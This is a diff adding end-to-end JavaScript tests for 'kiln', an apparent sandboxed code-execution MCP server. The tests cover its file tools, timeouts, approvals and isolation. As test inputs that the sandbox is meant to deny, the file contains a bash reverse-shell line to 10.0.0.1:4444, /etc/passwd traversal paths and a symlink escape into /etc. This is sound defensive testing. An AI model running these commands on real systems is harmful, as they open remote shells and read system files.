@@ -1,0 +1,233 @@
+// End-to-end tests of the agent tools (issue 4) with the official MCP
+// TypeScript SDK client over stdio: a real kiln serve, a real jail.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, existsSync, readdirSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
+import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
+
+const KILN = process.env.KILN_BIN;
+assert.ok(KILN, 'KILN_BIN must point to the kiln binary');
+
+const stateDir = mkdtempSync(join(tmpdir(), 'kiln-e2e-tools-'));
+
+// Every extra server gets its own audit log: one audit chain has one writer.
+async function connect({ elicit = null, name = 'e2e-tools' } = {}) {
+  const transport = new StdioClientTransport({
+    command: KILN,
+    args: ['--set', `server.state_dir=${stateDir}`, '--set', `audit.path=${join(stateDir, `audit-${name}.jsonl`)}`,
+      '--set', 'server.log_level=warn', 'serve'],
+    stderr: 'pipe',
+  });
+  const capabilities = elicit ? { elicitation: {} } : {};
+  const client = new Client({ name, version: '1.0.0' }, { capabilities });
+  if (elicit) client.setRequestHandler(ElicitRequestSchema, elicit);
+  await client.connect(transport);
+  return client;
+}
+
+const text = (r) => r.content.filter((c) => c.type === 'text').map((c) => c.text).join('\n');
+
+let client;
+before(async () => { client = await connect(); });
+after(async () => {
+  await client?.close();
+  rmSync(stateDir, { recursive: true, force: true });
+});
+
+test('the tool list holds the agent tools with schemas', async () => {
+  const { tools } = await client.listTools();
+  const names = tools.map((t) => t.name);
+  for (const n of ['run_code', 'run_command', 'assess_code', 'write_file', 'read_file', 'list_files', 'delete_file', 'reset_workspace'])
+    assert.ok(names.includes(n), `missing ${n}`);
+  for (const t of tools) {
+    assert.ok(t.inputSchema && t.outputSchema, `${t.name} schemas`);
+    assert.equal(typeof t.annotations.readOnlyHint, 'boolean');
+  }
+  assert.ok(!names.some((n) => n.startsWith('debug_')), 'diagnostic tools are not registered by default');
+  const run = tools.find((t) => t.name === 'run_code');
+  assert.ok(run.inputSchema.properties.language.enum.includes('python'));
+});
+
+test('write a file, run code that reads it and writes another, list, read back', async () => {
+  let r = await client.callTool({ name: 'write_file', arguments: { path: 'data/in.txt', content: 'hello kiln\n' } });
+  assert.equal(r.isError, false, text(r));
+  r = await client.callTool({
+    name: 'run_code',
+    arguments: {
+      language: 'python',
+      code: "import pathlib\ns = pathlib.Path('data/in.txt').read_text()\nprint(s.upper(), end='')\npathlib.Path('out.txt').write_text(s[::-1])\n",
+    },
+  });
+  assert.equal(r.isError, false, text(r));
+  assert.equal(r.structuredContent.exit_code, 0);
+  assert.equal(r.structuredContent.stdout, 'HELLO KILN\n');
+  assert.equal(r.structuredContent.decision, 'allow');
+  assert.match(r.structuredContent.audit_id, /.+/);
+  assert.match(text(r), /^exit 0/);
+  r = await client.callTool({ name: 'list_files', arguments: { recursive: true } });
+  const paths = r.structuredContent.entries.map((e) => e.path);
+  assert.deepEqual(paths.sort(), ['data', 'data/in.txt', 'out.txt'].sort());
+  r = await client.callTool({ name: 'read_file', arguments: { path: 'out.txt' } });
+  assert.equal(r.structuredContent.content, '\nnlik olleh');
+});
+
+test('a non-zero exit is an isError result with the output', async () => {
+  const r = await client.callTool({ name: 'run_command', arguments: { command: 'echo oops >&2; exit 3' } });
+  assert.equal(r.isError, true);
+  assert.equal(r.structuredContent.exit_code, 3);
+  assert.equal(r.structuredContent.stderr, 'oops\n');
+});
+
+test('a dangerous call is denied with findings, and nothing runs', async () => {
+  const r = await client.callTool({
+    name: 'run_code',
+    arguments: { language: 'bash', code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\ntouch /workspace/ran\n' },
+  });
+  assert.equal(r.isError, true);
+  assert.equal(r.structuredContent.decision, 'deny');
+  assert.ok(r.structuredContent.findings.some((f) => f.threat === 'T005'), JSON.stringify(r.structuredContent.findings));
+  assert.equal(r.structuredContent.exit_code, null);
+  const l = await client.callTool({ name: 'list_files', arguments: {} });
+  assert.ok(!l.structuredContent.entries.some((e) => e.path === 'ran'));
+});
+
+test('assess_code returns the validator contract and runs nothing', async () => {
+  const r = await client.callTool({ name: 'assess_code', arguments: { language: 'python', code: "import os\nos.system('id')\n" } });
+  assert.equal(r.isError, false);
+  assert.ok(['allow', 'ask', 'deny'].includes(r.structuredContent.decision));
+  assert.ok(r.structuredContent.findings.some((f) => f.threat === 'T002'));
+  assert.equal(r.structuredContent.threats.length, 5);
+});
+
+test('approval through elicitation: approve once runs the code', async () => {
+  const asked = [];
+  const c = await connect({
+    name: 'e2e-elicit',
+    elicit: async (req) => { asked.push(req.params.message); return { action: 'accept', content: { choice: 'approve_once' } }; },
+  });
+  try {
+    // subprocess is a high-severity shell-out: balanced asks for approval.
+    const r = await c.callTool({ name: 'run_code', arguments: { language: 'python', code: "import subprocess\nprint(subprocess.run(['echo','approved'],capture_output=True,text=True).stdout, end='')\n" } });
+    assert.equal(asked.length, 1, 'the user was asked once');
+    assert.equal(r.structuredContent.decision, 'approved', text(r));
+    assert.equal(r.structuredContent.stdout, 'approved\n');
+  } finally { await c.close(); }
+});
+
+test('without elicitation, ask falls back to deny and says how to approve', async () => {
+  const r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: "import subprocess\nsubprocess.run(['true'])\n" } });
+  assert.equal(r.isError, true);
+  assert.match(text(r), /kiln trust add --sha256 [0-9a-f]{64}/);
+});
+
+test('a timeout kills the run and says so', async () => {
+  const r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: 'import time\ntime.sleep(30)\n', timeout_seconds: 1 } });
+  assert.equal(r.isError, true);
+  assert.equal(r.structuredContent.timed_out, true);
+  assert.match(text(r), /^timed out/);
+});
+
+test('an out-of-memory run is reported as oom_killed', async () => {
+  const r = await client.callTool({
+    name: 'run_code',
+    arguments: { language: 'python', code: "b = []\nwhile True:\n    b.append(bytearray(8 << 20))\n", memory_mb: 64 },
+  });
+  assert.equal(r.isError, true);
+  assert.equal(r.structuredContent.oom_killed, true, text(r));
+});
+
+test('progress notifications arrive during a long run', async () => {
+  const seen = [];
+  const r = await client.callTool(
+    { name: 'run_code', arguments: { language: 'sh', code: 'for i in 1 2 3 4; do echo $i; sleep 0.5; done' } },
+    undefined,
+    { onprogress: (p) => seen.push(p.progress), resetTimeoutOnProgress: true },
+  );
+  assert.equal(r.structuredContent.exit_code, 0);
+  assert.ok(seen.length >= 2, `progress count ${seen.length}`);
+  for (let i = 1; i < seen.length; i++) assert.ok(seen[i] > seen[i - 1]);
+});
+
+test('cancellation kills the jail at once', async () => {
+  const ac = new AbortController();
+  const start = Date.now();
+  const p = client.callTool({ name: 'run_code', arguments: { language: 'python', code: 'import time\ntime.sleep(60)\n', timeout_seconds: 60 } },
+    undefined, { signal: ac.signal });
+  setTimeout(() => ac.abort('test cancel'), 700);
+  await assert.rejects(p);
+  // The server is free again: a quick run answers promptly.
+  const r = await client.callTool({ name: 'run_command', arguments: { command: 'echo after' } });
+  assert.equal(r.structuredContent.stdout, 'after\n');
+  assert.ok(Date.now() - start < 30000);
+});
+
+test('traversal attempts fail on every file tool', async () => {
+  for (const path of ['../../etc/passwd', '/etc/passwd', 'a/../../x']) {
+    for (const [name, extra] of [['read_file', {}], ['write_file', { content: 'x' }], ['delete_file', {}], ['list_files', {}]]) {
+      const r = await client.callTool({ name, arguments: { path, ...extra } });
+      assert.equal(r.isError, true, `${name} ${path}: ${text(r)}`);
+    }
+  }
+  // A symlink to /etc made by code inside the jail, then read through read_file.
+  let r = await client.callTool({ name: 'run_command', arguments: { command: 'ln -s /etc etclink && ln -s /etc/passwd pw && ls -l' } });
+  assert.equal(r.structuredContent.exit_code, 0, text(r));
+  for (const path of ['etclink/passwd', 'pw']) {
+    r = await client.callTool({ name: 'read_file', arguments: { path } });
+    assert.equal(r.isError, true, `read ${path} must fail: ${text(r)}`);
+    assert.match(text(r), /outside the workspace/);
+  }
+  r = await client.callTool({ name: 'write_file', arguments: { path: 'etclink/kiln-evil', content: 'x' } });
+  assert.equal(r.isError, true);
+  assert.ok(!existsSync('/etc/kiln-evil'));
+});
+
+test('two sessions cannot see each other\'s files', async () => {
+  const other = await connect({ name: 'e2e-other' });
+  try {
+    await client.callTool({ name: 'write_file', arguments: { path: 'mine.txt', content: 'secret' } });
+    let r = await other.callTool({ name: 'read_file', arguments: { path: 'mine.txt' } });
+    assert.equal(r.isError, true);
+    r = await other.callTool({ name: 'run_command', arguments: { command: 'ls -A /workspace; cat /workspace/mine.txt 2>&1; true' } });
+    assert.doesNotMatch(r.structuredContent.stdout, /secret/);
+  } finally { await other.close(); }
+});
+
+test('bad input names the field and the allowed range', async () => {
+  let r = await client.callTool({ name: 'run_code', arguments: { language: 'cobol', code: 'x' } });
+  assert.equal(r.isError, true);
+  assert.match(text(r), /'language' must be one of/);
+  r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: 'pass', timeout_seconds: 100000 } });
+  assert.equal(r.isError, true);
+  assert.match(text(r), /timeout_seconds' must be from 1 to \d+/);
+  r = await client.callTool({ name: 'run_code', arguments: { language: 'python' } });
+  assert.equal(r.isError, true);
+  assert.match(text(r), /'code' is required/);
+});
+
+test('resources: policy, threat model, recent audit', async () => {
+  const { resources } = await client.listResources();
+  const uris = resources.map((r) => r.uri).sort();
+  assert.deepEqual(uris, ['kiln://audit/recent', 'kiln://policy', 'kiln://threat-model']);
+  const tm = JSON.parse((await client.readResource({ uri: 'kiln://threat-model' })).contents[0].text);
+  assert.equal(tm.threats.length, 5);
+  assert.equal(tm.controls.length, 13);
+  const recent = JSON.parse((await client.readResource({ uri: 'kiln://audit/recent' })).contents[0].text);
+  assert.ok(recent.length > 0);
+});
+
+test('when a server ends, its workspaces are gone and the others stay', async () => {
+  const c = await connect({ name: 'e2e-cleanup' });
+  await c.callTool({ name: 'write_file', arguments: { path: 'x', content: 'y' } });
+  const root = join(stateDir, 'workspaces');
+  const before = readdirSync(root);
+  assert.equal(before.length, 2, `one workspace directory per live server: ${before}`);
+  await c.close();
+  await new Promise((r) => setTimeout(r, 500));
+  assert.equal(readdirSync(root).length, 1);
+  const mounts = (await import('node:fs')).readFileSync('/proc/self/mounts', 'utf8');
+  assert.equal(mounts.split('\n').filter((l) => l.includes(root)).length, 1, 'only the live server\'s workspace is mounted');
+});
